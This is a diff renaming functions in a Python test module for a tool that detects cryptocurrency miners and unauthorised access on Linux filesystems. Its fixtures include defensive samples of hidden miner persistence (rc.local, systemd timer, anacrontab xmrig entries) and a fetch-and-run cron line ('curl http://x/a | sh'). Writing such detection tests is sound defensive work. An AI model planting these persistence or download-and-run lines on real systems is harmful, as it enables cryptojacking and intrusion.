@@ -1,4 +1,4 @@
-"""What starts, or is, a miner, and who else gets in: from the lab's flavours and from fixtures."""
+"""Miners, what starts them, and access for others: from the lab's flavours and fixtures."""
 
 from __future__ import annotations
 
@@ -15,13 +15,13 @@ from provision.remote.facts import access, miners, mining
 from provision.remote.facts.miners import Evidence
 from provision.remote.facts.tree import Tree
 from tests.unit.facts.flavour_tree import lay
-from tests.unit.modules.rig import make, write_packages
+from tests.unit.modules.rig import create_files, write_packages
 
 EXPECTED = yaml.safe_load(Path(__file__).with_name("flavours.yml").read_text())
 SECRET = "0xWALLET-AND-PASSWORD"
 
 
-def system(root: Path) -> mining.MiningOs | None:
+def find_mining_os(root: Path) -> mining.MiningOs | None:
     return mining.mining_os(Tree(str(root)), dpkg.Database(status(root)))
 
 
@@ -30,34 +30,36 @@ def status(root: Path) -> str:
     return file.read_text() if file.exists() else ""
 
 
-def words(found: list[Evidence]) -> list[str]:
-    assert all(list(one) == ["kind", "name", "evidence"] for one in found)
-    return [f"{one['kind']} {one['name']} {one['evidence']}" for one in found]
+def format_signs(signs: list[Evidence]) -> list[str]:
+    assert all(list(sign) == ["kind", "name", "evidence"] for sign in signs)
+    return [f"{sign['kind']} {sign['name']} {sign['evidence']}" for sign in signs]
 
 
-def started(root: Path, *folders: str) -> list[str]:
-    return words(miners.miners(Tree(str(root)), folders))
+def find_started(root: Path, *folders: str) -> list[str]:
+    return format_signs(miners.miners(Tree(str(root)), folders))
 
 
-def ways_in(root: Path) -> list[str]:
-    return words(access.access(Tree(str(root))))
+def find_access(root: Path) -> list[str]:
+    return format_signs(access.access(Tree(str(root))))
 
 
-def test_every_flavour_has_its_expectation() -> None:
-    assert set(EXPECTED) == set(flavour.table())
+def test_every_flavour_has_expected_evidence() -> None:
+    assert set(EXPECTED) == set(flavour.load_table())
 
 
 @pytest.mark.parametrize("name", list(EXPECTED))
-def test_flavour(tmp_path: Path, name: str) -> None:
+def test_evidence_of_a_flavour_is_complete(tmp_path: Path, name: str) -> None:
     lay(tmp_path, name)
     expected = EXPECTED[name]
-    found = system(tmp_path)
+    mining_os = find_mining_os(tmp_path)
     shown = {
-        key: value for key, value in (found or {}).items() if key in (expected["system"] or ())
+        key: value for key, value in (mining_os or {}).items() if key in (expected["system"] or ())
     }
-    assert (found and shown) == expected["system"]
-    assert started(tmp_path, *(found["folders"] if found else ())) == expected["miners"]
-    assert ways_in(tmp_path) == expected["access"]
+    assert (mining_os and shown) == expected["system"]
+    assert (
+        find_started(tmp_path, *(mining_os["folders"] if mining_os else ())) == expected["miners"]
+    )
+    assert find_access(tmp_path) == expected["access"]
 
 
 @pytest.mark.parametrize(
@@ -70,14 +72,14 @@ def test_flavour(tmp_path: Path, name: str) -> None:
         (["opt/mmp/miners/x"], {}, ["/opt/mmp/bin/agent"]),
     ],
 )
-def test_a_system_that_was_removed_by_half(
+def test_missing_parts_of_a_mining_system_are_listed(
     tmp_path: Path, files: list[str], packages: dict[str, str], missing: list[str]
 ) -> None:
-    make(tmp_path, dict.fromkeys(files, ""))
+    create_files(tmp_path, dict.fromkeys(files, ""))
     write_packages(tmp_path, packages)
-    found = system(tmp_path)
-    assert found is not None
-    assert found["missing"] == missing
+    mining_os = find_mining_os(tmp_path)
+    assert mining_os is not None
+    assert mining_os["missing"] == missing
 
 
 def process(pid: int, parent: int, *argv: str, **more: Any) -> dict[str, Any]:
@@ -143,30 +145,34 @@ GPU = ("/dev/nvidiactl", "/dev/nvidia0", "/dev/nvidia-uvm")
         ([process(6, 1, "/opt/t-rex", state="Z")], []),
     ],
 )
-def test_processes(tmp_path: Path, processes: list[dict[str, Any]], expected: list[str]) -> None:
+def test_miners_are_found_among_processes(
+    tmp_path: Path, processes: list[dict[str, Any]], expected: list[str]
+) -> None:
     for files in processes:
-        make(tmp_path, files)
-    assert started(tmp_path) == expected
-    assert SECRET not in json.dumps(started(tmp_path))
+        create_files(tmp_path, files)
+    assert find_started(tmp_path) == expected
+    assert SECRET not in json.dumps(find_started(tmp_path))
 
 
-def test_what_runs_out_of_a_mining_system(tmp_path: Path) -> None:
-    make(tmp_path, process(6, 1, "/bin/bash", "core/loop", cwd="/home/minerstat/minerstat-os"))
-    make(tmp_path, process(7, 1, "/bin/bash", "/hive-config/x"))
+def test_processes_of_a_mining_system_are_found_by_folder(tmp_path: Path) -> None:
+    create_files(
+        tmp_path, process(6, 1, "/bin/bash", "core/loop", cwd="/home/minerstat/minerstat-os")
+    )
+    create_files(tmp_path, process(7, 1, "/bin/bash", "/hive-config/x"))
     folders = ("/home/minerstat/minerstat-os", "/hive")
-    assert started(tmp_path, *folders) == ["process loop pid 6"]
-    assert started(tmp_path) == []
+    assert find_started(tmp_path, *folders) == ["process loop pid 6"]
+    assert find_started(tmp_path) == []
 
 
-def test_a_renamed_miner_leads_to_what_starts_it(tmp_path: Path) -> None:
+def test_renamed_miner_is_traced_to_its_starters(tmp_path: Path) -> None:
     files = {
         "etc/systemd/system/tune.service": "[Service]\nExecStart=/usr/local/sbin/tune\n",
         "etc/systemd/system/tune.timer": "[Timer]\nOnBootSec=1\n",
         "usr/local/sbin/tune": "#!/bin/sh\n/usr/lib/.x/helper\n",
         "etc/rc.local": "#!/bin/sh\n/usr/lib/.x/helper &\n",
     }
-    make(tmp_path, {**files, **process(6, 1, "/usr/lib/.x/helper", open=GPU)})
-    assert started(tmp_path) == [
+    create_files(tmp_path, {**files, **process(6, 1, "/usr/lib/.x/helper", open=GPU)})
+    assert find_started(tmp_path) == [
         "unit tune.service /etc/systemd/system/tune.service",
         "unit tune.timer /etc/systemd/system/tune.timer",
         "rc.local /usr/lib/.x/helper /etc/rc.local",
@@ -193,9 +199,11 @@ def test_a_renamed_miner_leads_to_what_starts_it(tmp_path: Path) -> None:
         ({"etc/anacrontab": "1 5 x /opt/xmrig\n"}, "cron xmrig /etc/anacrontab"),
     ],
 )
-def test_less_usual_places(tmp_path: Path, files: dict[str, Any], expected: str) -> None:
-    make(tmp_path, files)
-    assert started(tmp_path) == [expected]
+def test_miners_are_found_in_unusual_places(
+    tmp_path: Path, files: dict[str, Any], expected: str
+) -> None:
+    create_files(tmp_path, files)
+    assert find_started(tmp_path) == [expected]
 
 
 @pytest.mark.parametrize(
@@ -228,9 +236,9 @@ def test_less_usual_places(tmp_path: Path, files: dict[str, Any], expected: str)
         },
     ],
 )
-def test_what_is_no_miner(tmp_path: Path, files: dict[str, Any]) -> None:
-    make(tmp_path, files)
-    assert started(tmp_path) == []
+def test_harmless_files_are_not_miners(tmp_path: Path, files: dict[str, Any]) -> None:
+    create_files(tmp_path, files)
+    assert find_started(tmp_path) == []
 
 
 @pytest.mark.parametrize(
@@ -250,10 +258,10 @@ def test_what_is_no_miner(tmp_path: Path, files: dict[str, Any]) -> None:
         ("# curl http://x/a | sh", None),
     ],
 )
-def test_lines_that_run_what_they_fetch(tmp_path: Path, line: str, expected: str | None) -> None:
-    make(tmp_path, {"var/spool/cron/crontabs/root": f"{line}\n"})
+def test_download_and_run_lines_are_access(tmp_path: Path, line: str, expected: str | None) -> None:
+    create_files(tmp_path, {"var/spool/cron/crontabs/root": f"{line}\n"})
     wanted = [f"fetch {expected} /var/spool/cron/crontabs/root"] if expected else []
-    assert ways_in(tmp_path) == wanted
+    assert find_access(tmp_path) == wanted
 
 
 @pytest.mark.parametrize(
@@ -266,9 +274,9 @@ def test_lines_that_run_what_they_fetch(tmp_path: Path, line: str, expected: str
         ("me@examiner", "key"),
     ],
 )
-def test_keys(tmp_path: Path, comment: str, kind: str) -> None:
+def test_vendor_keys_are_distinguished_by_comment(tmp_path: Path, comment: str, kind: str) -> None:
     lines = f'# ssh-rsa AAAAold gone\nfrom="10.*" ssh-ed25519 AAAAC3 {comment}\n'
-    make(
+    create_files(
         tmp_path, {"etc/passwd": "root:x:0:0::/root:/bin/sh\n", "root/.ssh/authorized_keys": lines}
     )
-    assert ways_in(tmp_path) == [f"{kind} {comment} /root/.ssh/authorized_keys"]
+    assert find_access(tmp_path) == [f"{kind} {comment} /root/.ssh/authorized_keys"]
